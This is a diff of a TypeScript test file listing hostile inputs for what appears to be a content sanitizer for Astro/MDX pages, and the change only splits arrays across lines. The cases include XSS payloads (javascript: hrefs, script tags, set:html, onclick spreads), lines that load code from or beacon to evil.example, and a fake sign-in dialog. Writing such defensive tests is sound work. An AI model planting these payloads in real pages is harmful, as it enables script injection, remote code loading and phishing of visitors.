@@ -59,7 +59,11 @@ export const hostileCases: HostileCase[] = [
   ]),
   ...cases(
     'math',
-    ['<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', '<math href="javascript:alert(1)"><mi>x</mi></math>', '<math><mi>x</mi></math>'],
+    [
+      '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+      '<math href="javascript:alert(1)"><mi>x</mi></math>',
+      '<math><mi>x</mi></math>',
+    ],
     ['$$x = 1$$', 'E = mc^2 and $x$'],
   ),
   ...cases('embedded documents', [
@@ -84,7 +88,13 @@ export const hostileCases: HostileCase[] = [
     '<output>x</output>',
     '<a href="/contact" formaction="https://evil.example">x</a>',
   ]),
-  ...cases('dialogs and pop-ups', ['<dialog open>Your session expired: sign in again</dialog>', '<details open><summary>x</summary>y</details>', '<p popover="auto">x</p>', '<div popover>x</div>', '<menu>x</menu>']),
+  ...cases('dialogs and pop-ups', [
+    '<dialog open>Your session expired: sign in again</dialog>',
+    '<details open><summary>x</summary>y</details>',
+    '<p popover="auto">x</p>',
+    '<div popover>x</div>',
+    '<menu>x</menu>',
+  ]),
   ...cases('elements that swallow the page', [
     '<plaintext />',
     '<plaintext>rest</plaintext>',
@@ -147,7 +157,15 @@ export const hostileCases: HostileCase[] = [
   ]),
   ...cases(
     'expressions',
-    ['{alert(1)}', 'We have {1 + 1} offices.', '{props.x}', '{"<script>alert(1)</script>"}', "{import('https://evil.example/x.js')}", '<p>{alert(1)}</p>', '{globalThis.location = "https://evil.example"}'],
+    [
+      '{alert(1)}',
+      'We have {1 + 1} offices.',
+      '{props.x}',
+      '{"<script>alert(1)</script>"}',
+      "{import('https://evil.example/x.js')}",
+      '<p>{alert(1)}</p>',
+      '{globalThis.location = "https://evil.example"}',
+    ],
     ['We answer within {{responseTime}}.', 'A note {/* for writers */} stays out.'],
   ),
   ...cases('import and export', [
@@ -166,7 +184,12 @@ export const hostileCases: HostileCase[] = [
     '<Fragment set:html="<script>alert(1)</script>" />',
     '<b>bold</b>',
   ]),
-  ...cases('directives', ['<p set:html="<script>alert(1)</script>" />', '<strong is:raw>x</strong>', '<em client:load>x</em>', '<a href="/contact" set:text="x">y</a>']),
+  ...cases('directives', [
+    '<p set:html="<script>alert(1)</script>" />',
+    '<strong is:raw>x</strong>',
+    '<em client:load>x</em>',
+    '<a href="/contact" set:text="x">y</a>',
+  ]),
   ...cases('attributes on allowed tags', [
     '<a href="/contact" target="_blank">x</a>',
     '<a href="/contact" class="btn">x</a>',
@@ -177,7 +200,12 @@ export const hostileCases: HostileCase[] = [
     '<strong title="x" {...{ onclick: "alert(1)" }}>x</strong>',
     '<a href="/contact" ping="https://evil.example">x</a>',
   ]),
-  ...cases('Markdown the page cannot use', ['# A second main heading', '- [ ] a tick box', '| a | b |\n| :-- | --: |\n| 1 | 2 |', '<img src="../uploads/example-engineering-works-logo.png" alt="Logo" />']),
+  ...cases('Markdown the page cannot use', [
+    '# A second main heading',
+    '- [ ] a tick box',
+    '| a | b |\n| :-- | --: |\n| 1 | 2 |',
+    '<img src="../uploads/example-engineering-works-logo.png" alt="Logo" />',
+  ]),
   ...cases(
     'escaped and quoted tags',
     [],
